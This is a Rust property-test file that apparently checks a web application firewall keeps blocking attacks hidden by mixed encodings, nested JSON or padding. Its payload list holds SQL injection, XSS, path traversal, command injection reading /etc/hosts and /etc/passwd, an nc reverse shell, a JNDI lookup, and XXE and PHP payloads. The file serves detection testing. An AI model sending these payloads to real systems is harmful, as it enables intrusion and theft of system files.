//! Attacks of each class in the encodings that readers undo, generated.

use super::{Put, verdict};
use crate::Action;
use proptest::{prelude::*, sample::select};

/// One or two attacks of each class that has no encoding of its own.
const ATTACKS: [&str; 14] = [
    "' or 6=6 -- ",
    "-6 union select 6,user(),6",
    "6;drop table visits--",
    "<script>f(6)</script>",
    "\" onfocus=f(6) autofocus x=\"",
    "../../../../../etc/hosts",
    "..\\..\\..\\..\\..\\boot.ini",
    ";cat /etc/hosts",
    "|nc 10.6.6.6 66 -e /bin/sh",
    "{{6*6}}",
    "${jndi:ldap://h.example/6}",
    "*)(uid=*))(|(uid=*",
    "<?php system('id');",
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///x\">]>",
];

/// One way to write a byte of ASCII, where a percent escape is undone once on the way in.
fn written(byte: u8, way: u8) -> String {
    let (high, low) = (byte >> 6, byte & 0x3f);
    match way {
        0 => format!("%{byte:02x}"),
        1 => format!("%u00{byte:02X}"),
        2 => format!("%25{byte:02x}"),
        3 => format!("%{:02x}%{:02x}", 0xc0 | high, 0x80 | low),
        4 => format!("%e0%{:02X}%{:02X}", 0x80 | high, 0x80 | low),
        5 => format!("%F0%80%{:02x}%{:02x}", 0x80 | high, 0x80 | low),
        6 if byte.is_ascii_graphic() => format!("%uff{:02x}", byte - 0x20),
        7 if byte.is_ascii_graphic() => char::from_u32(u32::from(byte) + 0xfee0).unwrap().to_string(),
        8 => format!("&#x{byte:x};"),
        9 => format!("\\u00{byte:02x}"),
        10 => format!("\\x{byte:02x}"),
        _ => char::from(byte).to_string(),
    }
}

/// Pairs of ways that one reader undoes.
const PAIRS: [(u8, u8); 12] =
    [(0, 11), (1, 11), (2, 0), (2, 11), (3, 11), (4, 3), (5, 11), (6, 1), (7, 11), (8, 11), (9, 11), (10, 9)];

fn pad() -> impl Strategy<Value = String> {
    (0usize..131_072, select(vec!["lorem ipsum ", "A", "0 ", "é, ", "x=1 ", "\n", "word. "]))
        .prop_map(|(size, unit)| unit.repeat(size / unit.len()))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn no_mix_of_two_encodings_hides_a_class(
        attack in select(ATTACKS.to_vec()),
        ways in select(PAIRS.to_vec()),
        choice in prop::collection::vec(any::<bool>(), 48),
        put in select(vec![Put::Query, Put::Form, Put::Json, Put::Multipart, Put::Cookie]),
    ) {
        // Who undoes `\u0041` takes a bare `\` for an escape too: it has to be written as one.
        let bare = |byte: u8| byte == b'\\' && matches!(ways.0, 9 | 10);
        let pick = |at: usize, byte: u8| if choice[at % 48] || bare(byte) { ways.0 } else { ways.1 };
        let value: String = attack.bytes().enumerate().map(|(at, byte)| written(byte, pick(at, byte))).collect();
        prop_assert_eq!(verdict(&value, put, 1).action, Action::Block, "{:?} {}", put, value);
    }

    #[test]
    fn nested_json_hides_nothing(
        attack in select(ATTACKS.to_vec()),
        depth in 1usize..4,
        put in select(vec![Put::Query, Put::Form, Put::Json, Put::Multipart, Put::Cookie]),
    ) {
        let mut value = serde_json::json!({ "a": [attack] }).to_string();
        for _ in 1..depth {
            value = serde_json::json!({ "b": value }).to_string();
        }
        prop_assert_eq!(verdict(&value, put, 1).action, Action::Block, "{:?} {}", put, value);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    #[test]
    fn padding_in_the_same_field_hides_nothing(
        before in pad(),
        attack in select(vec![
            "' union select 6,user(),6 from t -- ", "<script>f(6)</script>", "${jndi:ldap://h.example/6}", "; cat /etc/passwd",
            "../../../../../../../etc/passwd", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///x\">]>",
        ]),
        put in select(vec![Put::Form, Put::Json, Put::Multipart, Put::Xml]),
    ) {
        let value = format!("{before}{attack}");
        prop_assert_eq!(verdict(&value, put, 1).action, Action::Block, "{:?} {} bytes before {}", put, before.len(), attack);
    }
}
